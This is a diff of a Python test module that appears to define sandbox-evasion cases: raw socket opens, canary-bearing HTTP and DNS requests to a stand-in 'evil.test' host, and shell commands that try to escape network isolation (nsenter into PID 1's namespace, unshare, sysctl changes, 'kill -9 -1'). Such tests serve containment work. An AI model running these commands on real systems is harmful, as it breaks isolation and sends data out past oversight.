@@ -1,6 +1,6 @@
 # SPDX-License-Identifier: Apache-2.0
 """What a box does to its own side first: other sockets, the gateway's ports, its files, its namespace; and what is near: the host and other boxes."""
-from evasion.case import ADDRESS, FORWARD, MATCH, NETNS, RULES, Case, off
+from evasion.case import BLIND, FORWARD, NETNS, RULES, Case, off
 from internet import places
 
 EVIL4, EVIL6 = places.v4(places.EVIL), places.v6(places.EVIL)
@@ -13,8 +13,8 @@ FAMILIES = {"packet": (17, 3, 0x300), "packet-dgram": (17, 2, 0x300), "vsock": (
 SOCKETS = [Case(f"socket-{n}", "E12", "{K} open %d %d %d" % w, "seccomp,inner-userns,caps", judge="open", audit=False) for n, w in FAMILIES.items()]
 
 GATEWAY = [
-    *[Case(f"detour-port-{n}", "E15", f"{{K}} tcp {a} 1 'GET /{{canary}} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'", off(RULES, ADDRESS, MATCH)) for n, a in (("evil", EVIL4), ("evil-six", EVIL6))],
-    *[Case(f"detour-own-{n}", "E15", f"{{K}} tcp {a} 1 'GET /{{canary}} HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'", off(RULES, ADDRESS, MATCH), audit=False) for n, a in (("four", "127.0.0.1"), ("six", "::1"), ("other", "127.9.9.9"), ("zero", "0.0.0.0"))],
+    *[Case(f"detour-port-{n}", "E15", f"{{K}} tcp {a} 1 'GET /{{canary}} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'", BLIND) for n, a in (("evil", EVIL4), ("evil-six", EVIL6))],
+    *[Case(f"detour-own-{n}", "E15", f"{{K}} tcp {a} 1 'GET /{{canary}} HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'", NETNS, audit=False) for n, a in (("four", "127.0.0.1"), ("six", "::1"), ("other", "127.9.9.9"), ("zero", "0.0.0.0"))],
     *[Case(f"question-own-{n}", "E15", f"{{K}} dns {a} {how} name={{canary}}.evil.test", FORWARD, audit=False) for n, a, how in (("four", "127.0.0.1", "udp"), ("six", "::1", "udp"), ("tcp", "127.0.0.1", "tcp"))],
 ]
 SERVICES = [
@@ -33,7 +33,7 @@ RULESET = {
     "link": f"ip link add veth0 type veth peer name veth1; ip link set lo down; ip link set lo up; {GET}", "address": f"ip addr add {EVIL4}/32 dev lo; ip addr flush dev lo; {GET}", "rule": f"ip rule add from all lookup 7; {GET}",
     "tun": f"ip tuntap add tap0 mode tap; {GET}", "sysctl": f"echo 1 >/proc/sys/net/ipv4/ip_forward; echo 0 >/proc/sys/net/ipv4/conf/all/route_localnet; {GET}", "conntrack": f"echo 0 >/proc/sys/net/netfilter/nf_conntrack_max; {GET}",
     "unshare": f"unshare -n sh -c '{GET}'; {GET}", "unshare-user": f"unshare -Urn sh -c 'ip link set lo up; {GET}'; {GET}", "nsenter": f"nsenter -t 1 -n sh -c '{GET}'; {GET}", "netns": f"ip netns add x; ip netns exec x {GET}; {GET}",
-    "netns-host": f"for n in /proc/*/ns/net; do nsenter --net=$n true; done; {GET}", "six": GET6, "preload": f"LD_PRELOAD=/lib/x86_64-linux-gnu/libc.so.6 {GET}", "chroot": f"chroot / sh -c '{GET}'; {GET}", "su": f"su -c '{GET}'; {GET}",
+    "netns-host": f"for n in /proc/*/ns/net; do nsenter --net=$n true; done; {GET}", "six": GET6, "preload": f"LD_PRELOAD=/lib/x86_64-linux-gnu/libc.so.6 {GET}", "chroot": f"chroot / sh -c '{GET}'; {GET}",
     "setsid": f"setsid {GET}", "background": f"({GET} &) ; sleep 0.3", "io-uring": f"python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(425, 4, 0))'; {GET}", "kill-all": f"kill -9 -1; {GET}",
 }
 CHANGED = [
